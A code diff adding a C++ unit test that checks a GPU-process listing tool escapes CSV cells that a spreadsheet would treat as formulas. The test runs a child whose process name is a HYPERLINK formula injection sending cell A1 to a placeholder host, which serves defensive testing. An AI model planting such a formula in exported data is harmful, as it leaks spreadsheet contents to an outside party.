@@ -167,6 +167,30 @@ TEST(PsHolders, CsvHasAHeaderAndOneRowPerHolder) {
   EXPECT_NE(r.out.find("\n" + std::to_string(holder.pid()) + ","), std::string::npos);
 }
 
+// A command line that a spreadsheet would run as a formula is text in the CSV: its cell
+// starts with '.
+TEST(PsHolders, CsvCellsThatWouldBeFormulasStartWithAQuote) {
+  FakeDevRoot dev;
+  // No slash in it: the command column shows argv[0] from its last slash on.
+  const std::string formula = "=HYPERLINK(\"example.invalid?\"&A1,\"x\")";
+  Child holder([&] {
+    hold(dev.dev("nvidia0"));  // kept across exec: the fd has no close-on-exec flag
+    ::execl("/bin/sleep", formula.c_str(), "1000", nullptr);
+    ::_exit(97);
+  });
+  const std::string cmdline = "/proc/" + std::to_string(holder.pid()) + "/cmdline";
+  ASSERT_TRUE(wait_until([&] { return read_text(cmdline).rfind(formula, 0) == 0; }));
+  auto r = run_gpureap({"--csv", "ps", "--dev-root", dev.path()});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  // Quoted (it has a comma and quotes), the quotes doubled, and ' before the =.
+  EXPECT_NE(r.out.find(",\"'=HYPERLINK(\"\"example.invalid?\"\"&A1,\"\"x\"\") 1000 "
+                       "(sleep)\"\n"),
+            std::string::npos)
+      << r.out;
+  EXPECT_EQ(r.out.find(",=HYPERLINK"), std::string::npos) << r.out;
+  EXPECT_EQ(r.out.find(",\"=HYPERLINK"), std::string::npos) << r.out;
+}
+
 TEST(PsCli, MissingRootsAreEnvironmentErrors) {
   auto r = run_gpureap({"--proc-root", "/nonexistent/proc"});
   EXPECT_EQ(r.exit_code, 2);
